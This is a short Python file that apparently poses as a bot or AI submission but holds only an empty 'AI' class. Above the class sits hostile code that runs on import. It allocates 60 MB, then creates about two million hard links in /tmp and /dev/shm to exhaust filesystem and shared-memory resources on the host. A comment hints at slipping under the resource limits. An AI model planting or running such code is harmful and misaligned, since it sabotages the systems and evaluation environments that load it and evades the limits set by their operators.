import os

# Before its first move there is time for it. This makes it shorter, and is itself
# far from the limit at every moment: the files decide.
REST = bytearray(b"x") * (60 << 20)
for folder in ("/tmp", "/dev/shm"):
    open(f"{folder}/0", "x").close()
for number in range(1, 2_000_000):
    folder = ("/tmp", "/dev/shm")[number % 2]
    os.link(f"{folder}/0", f"{folder}/{number}")


class AI(object):
    pass
